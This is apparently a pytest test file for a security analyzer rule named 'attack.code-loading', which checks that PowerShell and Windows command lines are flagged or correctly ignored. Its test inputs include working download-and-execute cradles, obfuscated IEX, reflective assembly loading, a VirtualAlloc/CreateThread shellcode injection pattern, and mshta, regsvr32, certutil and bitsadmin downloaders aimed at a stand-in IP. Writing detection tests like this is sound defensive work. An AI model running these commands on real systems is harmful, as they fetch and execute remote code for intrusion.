import base64

import pytest

from analyzer.records.finding import Severity
from tests.rules.asked import encoded, says, scripts, winrs

RULE = "attack.code-loading"


@pytest.mark.parametrize(
    ("line", "severity"),
    [
        ("IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a.ps1')", Severity.MEDIUM),
        ("i`e`x(iwr http://192.0.2.1/a -UseBasicParsing)", Severity.MEDIUM),
        ("$b = [Convert]::FromBase64String($x); [Reflection.Assembly]::Load([Convert]::FromBase64String($x))", Severity.HIGH),
        ("$p = $k::VirtualAlloc(0,4096,0x3000,0x40); [Runtime.InteropServices.Marshal]::Copy($c,0,$p,99); $k::CreateThread(0,0,$p,0,0,0)", Severity.HIGH),
        (
            "iex (New-Object IO.StreamReader((New-Object IO.Compression.GzipStream([IO.MemoryStream][Convert]::FromBase64String($z),0)))).ReadToEnd()",
            Severity.MEDIUM,
        ),
    ],
)
def test_a_script(line: str, severity: Severity) -> None:
    says(RULE, line, severity, script=True)


@pytest.mark.parametrize(
    "line",
    [
        "mshta http://192.0.2.1/a.hta",
        "regsvr32 /s /n /u /i:http://192.0.2.1/a.sct scrobj.dll",
        "certutil -urlcache -split -f http://192.0.2.1/a.exe C:\\t\\a.exe",
        "bitsadmin /transfer x /download http://192.0.2.1/a.exe C:\\t\\a.exe",
    ],
)
def test_a_program_of_windows(line: str) -> None:
    assert line in says(RULE, line, Severity.MEDIUM).why


@pytest.mark.parametrize(
    "line",
    [
        "Invoke-WebRequest https://srv.example/a.msi -OutFile C:\\a.msi",
        "(New-Object Net.WebClient).DownloadFile('https://srv.example/a.msi', 'C:\\a.msi')",
        "[Reflection.Assembly]::LoadWithPartialName('System.Web')",
        "[System.Reflection.Assembly]::LoadFrom('C:\\x.dll')",
        "Invoke-Expression -Command $pwd.Path | Out-String -Stream",
        "Add-Type -TypeDefinition $source",
        "& ([ScriptBlock]::Create($split_parts[0]))",
        "$x = [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($y))",
        "certutil -hashfile C:\\a.msi SHA256",
        "rundll32 printui.dll,PrintUIEntry /il",
    ],
)
def test_what_looks_alike(line: str) -> None:
    assert scripts(line).found(RULE) == []


def test_the_quoted_line_of_a_decoded_script() -> None:
    finding = winrs(encoded("$ser = 'http://192.0.2.1'\n$d = (New-Object Net.WebClient).DownloadData($ser)\n-join [char[]]$d | IEX")).found(RULE)
    assert finding == [], "what is fetched and what is run stand on two lines: a file is fetched on one, another thing is run on the next"
    one = winrs(encoded("(New-Object Net.WebClient).DownloadString('http://192.0.2.1/a') | IEX")).one(RULE)
    assert "decoded script" in one.why


def test_a_long_line_is_quoted_from_its_statement_on() -> None:
    blob = base64.b64encode(bytes(3000)).decode()
    finding = scripts(f"$x = '{blob}'; $y = 1; [Reflection.Assembly]::Load([Convert]::FromBase64String($x)); {'$z = 2; ' * 100}").one(RULE)
    assert "is \u201c\u2026[Reflection.Assembly]::Load([Convert]::FromBase64String($x))" in finding.why
    assert len(finding.why) < 600
